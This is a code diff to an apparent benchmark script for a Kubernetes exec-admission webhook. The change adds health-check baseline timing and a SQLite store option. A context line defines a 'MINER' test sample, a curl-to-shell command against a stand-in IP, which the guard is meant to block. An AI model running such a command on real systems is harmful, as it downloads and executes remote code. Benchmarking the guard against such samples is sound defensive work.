@@ -7,6 +7,8 @@ openssl CLI, the built-in rules and docs/policy-example.yml), then posts a mix o
 TLS connections, as kube-apiserver does: benign and malicious exec, kubectl debug, a Deployment create.
 Latency is the client's wall time from sending the request to reading the whole answer, TLS included;
 the handshake is paid once per connection and reported apart. Goal (issue 12): p99 under 5 ms.
+Each review is followed by a GET /healthz on the same connection: the floor, what any request pays on
+this machine at this moment. ``--store`` runs the webhook with the SQLite store copy on.
 """
 
 from __future__ import annotations
@@ -29,6 +31,7 @@ from execguard.testing import reviews
 from execguard.testing.dockerd import free_port, make_test_certs
 
 ROOT = Path(__file__).resolve().parent.parent
+HEALTH = "GET /healthz (floor)"
 MINER = ["sh", "-c", "curl -s http://198.51.100.7/x | sh"]
 APP = {"name": "a", "image": "python:3", "command": ["python", "app.py"]}
 
@@ -68,6 +71,8 @@ def wait_ready(port: int, ca: str, proc: subprocess.Popen[bytes]) -> None:
 
 
 def client(port: int, ca: str, bodies: list[tuple[str, bytes, bool]], n: int, out: dict[str, list[float]], handshakes: list[float]) -> None:
+    """n reviews, each followed by a health check on the same connection: the same HTTP and TLS at the same moment,
+    with no decision and no record; the health checks' tail is what the machine adds to any request."""
     conn = http.client.HTTPSConnection("127.0.0.1", port, context=reviews.client_context(ca), timeout=10)
     start = time.perf_counter()
     conn.connect()
@@ -80,6 +85,10 @@ def client(port: int, ca: str, bodies: list[tuple[str, bytes, bool]], n: int, ou
         if status != 200 or orjson.loads(answer)["response"]["allowed"] is not allowed:
             raise SystemExit(f"{name}: unexpected answer {status} {answer[:200]!r}")
         out.setdefault(name, []).append(took)
+        start = time.perf_counter()
+        conn.request("GET", "/healthz")
+        conn.getresponse().read()
+        out.setdefault(HEALTH, []).append(time.perf_counter() - start)
     conn.close()
 
 
@@ -105,6 +114,7 @@ def main(argv: list[str] | None = None) -> int:
     ap.add_argument("--requests", type=int, default=2000, help="per client")
     ap.add_argument("--clients", type=int, default=1, help="concurrent kept-alive connections")
     ap.add_argument("--policy", default=str(ROOT / "docs" / "policy-example.yml"))
+    ap.add_argument("--store", action="store_true", help="also copy decisions into a SQLite store (--store)")
     args = ap.parse_args(argv)
     with tempfile.TemporaryDirectory() as tmp:
         certs = make_test_certs(Path(tmp) / "certs")
@@ -112,6 +122,8 @@ def main(argv: list[str] | None = None) -> int:
         cmd = [sys.executable, "-m", "execguard", "guard", "admission", "--tls-cert", str(certs.server_cert),
                "--tls-key", str(certs.server_key), "--listen", f"127.0.0.1:{port}", "--state-dir", str(Path(tmp) / "state"),
                "--record", str(Path(tmp) / "decisions.jsonl"), "--policy", args.policy]  # fmt: skip
+        if args.store:
+            cmd += ["--store", str(Path(tmp) / "guard.db")]
         log = open(Path(tmp) / "webhook.log", "wb")  # noqa: SIM115 - a pipe nobody reads would fill and stall the webhook
         proc = subprocess.Popen(cmd, stdout=subprocess.DEVNULL, stderr=log, env=os.environ.copy())
         try:
@@ -132,11 +144,12 @@ def main(argv: list[str] | None = None) -> int:
             proc.terminate()
             proc.wait(10)
             log.close()
+    floor = per.pop(HEALTH, [])
     every = [v for values in per.values() for v in values]
-    print(f"{len(every)} reviews, {args.clients} client(s), {len(every) / wall:,.0f} reviews/s; "
+    print(f"{len(every)} reviews, {args.clients} client(s), {(len(every) + len(floor)) / wall:,.0f} requests/s (with the health checks); "
           f"p50 {percentile(every, 0.5) * 1e3:.2f} ms, p99 {percentile(every, 0.99) * 1e3:.2f} ms, "
           f"max {max(every) * 1e3:.2f} ms; TLS handshake median {statistics.median(handshakes) * 1e3:.2f} ms")  # fmt: skip
-    for name, values in per.items():
+    for name, values in [*per.items(), (HEALTH, floor)]:
         print(f"  {name:24} p50 {percentile(values, 0.5) * 1e3:.2f} ms  p99 {percentile(values, 0.99) * 1e3:.2f} ms")
     cpu = decision_cpu(args.policy, args.requests)
     print(f"decision alone (parse + events + rules + policy, CPU time): p50 {percentile(cpu, 0.5) * 1e3:.2f} ms, "
